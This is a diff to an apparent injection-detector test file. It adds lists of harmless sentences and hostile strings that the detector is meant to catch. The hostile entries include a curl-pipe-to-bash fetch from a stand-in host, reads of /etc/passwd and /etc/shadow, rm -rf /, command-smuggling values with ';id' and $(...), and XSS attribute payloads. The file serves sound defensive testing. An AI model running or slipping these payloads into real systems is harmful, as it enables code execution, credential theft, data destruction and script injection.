@@ -76,3 +76,23 @@ hold(
     `<iframe src="${TUBE}"></iframe><img src=x onerror=alert(1)>`,
   ],
 ); // biome-ignore format: lists of texts
+
+hold(
+  "sentences about commands, and commands of everyday work",
+  [
+    "apt-get update; apt-get install -y curl | tee /var/log/x.log -- doesn't work behind our proxy",
+    "Hi,\n\napt-get update; apt-get install -y curl | tee /var/log/x.log -- doesn't work behind our proxy",
+    "Can you curl your hair or ping me later? I'll grep the fridge for cat food; echo that; kill the lights.",
+    "sudo apt-get update fails behind the proxy, what now?", "npm install | tee install.log", "npm ci; npm run build; npm test",
+    `auto-changelog && git add CHANGELOG.md && git tag -a "v$(node -e "console.log(require('./package.json').version)")"`,
+    "<p>apt-get update; apt-get install -y curl | tee /var/log/x.log -- doesn't work</p>",
+    `It's "odd" so. onclick="nothing" I mean when I click nothing happens: onerror it should retry`, `We set onload='none' "there".`,
+    "p&ss'w0rd", 'x|nc"Zr9',
+  ],
+  [
+    "apt-get update; cat /etc/passwd", "apt-get update; apt-get install -y curl | sh", "apt-get update; curl http://h.example/a | bash", "sudo apt-get update; rm -rf /", "id | tee /tmp/a.log", "x;id | tee /tmp/a.log",
+    "127.0.0.1; echo abc;", "127.0.0.1;echo abc;id", "my dear good old friend; echo that; cat /etc/passwd", "my dear good old friend;echo that;id",
+    `$(node -e "require('child_process').exec('id')")`, `$(node -e "console.log(require('./package.json').version);require('fs')")`, "sudo rm -rf /, what now my old friend?", "sudo cat /etc/shadow fails here, what now?",
+    "x\"; id\"", "x';whoami'", `x" onclick="alert`, `x" onfocus="a()`, `x" onclick="nothing" autofocus onfocus="alert(1)`, `x' onerror='location=name`, `" onload="a" onerror=alert(1) x="`,
+  ],
+); // biome-ignore format: lists of texts
